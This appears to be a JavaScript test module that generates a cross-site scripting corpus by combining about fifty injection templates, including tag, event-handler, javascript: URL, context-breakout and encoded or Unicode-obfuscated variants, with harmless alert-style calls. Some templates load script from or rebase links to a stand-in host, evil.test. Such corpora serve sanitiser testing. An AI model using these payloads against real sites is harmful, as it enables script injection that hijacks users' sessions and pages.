// Texts that run as a script where a page is careless. Each would call alert or set window.ran.

const kCalls = ["alert(1)", "window.ran=1", "top.ran=1;alert(document.domain)"];
const kTemplates = [
  "<script>CALL</script>", "<ScRiPt>CALL</sCrIpT>", "<script src=//evil.test/x.js></script>",
  "</script><script>CALL</script>", "<img src=x onerror=CALL>", "<img src=x onerror=\"CALL\">",
  "<IMG SRC=`x` ONERROR=CALL>", "<svg onload=CALL>", "<svg/onload=CALL>",
  "<svg><script>CALL</script></svg>", "<body onload=CALL>", "<iframe srcdoc='<script>CALL</script>'>",
  "<iframe src=javascript:CALL>", "<a href=javascript:CALL>x</a>", "<details open ontoggle=CALL>",
  "<video><source onerror=CALL>", "<input autofocus onfocus=CALL>", "<math><mi xlink:href=\"data:x\">",
  "<style>@import'javascript:CALL';</style>", "<link rel=stylesheet href=javascript:CALL>",
  "<meta http-equiv=refresh content='0;url=javascript:CALL'>", "<object data=javascript:CALL>",
  "<embed src=javascript:CALL>", "<form action=javascript:CALL><button>x", "<base href=//evil.test/>",
  "\"><script>CALL</script>", "'><img src=x onerror=CALL>", "\" onmouseover=CALL x=\"",
  "' onfocus=CALL autofocus '", "--><script>CALL</script>", "]]><script>CALL</script>",
  "</title><script>CALL</script>", "</textarea><script>CALL</script>", "</style><svg onload=CALL>",
  "javascript:CALL", "data:text/html,<script>CALL</script>", "';CALL;//", "\";CALL;//",
  "${CALL}", "{{constructor.constructor('CALL')()}}", "`;CALL;`", "&lt;script&gt;CALL&lt;/script&gt;",
  "&#60;script&#62;CALL&#60;/script&#62;", "\\u003cscript\\u003eCALL\\u003c/script\\u003e",
  "%3Cscript%3ECALL%3C/script%3E", "<\u0000script>CALL</script>", "<scr\u200bipt>CALL</scr\u200bipt>",
  "＜script＞CALL＜/script＞", "<svg><animate onbegin=CALL attributeName=x dur=1s>",
  "<marquee onstart=CALL>", "<template><script>CALL</script></template>",
];

export const xssCorpus = kTemplates.flatMap((template) =>
  kCalls.map((call) => template.replaceAll("CALL", call)));
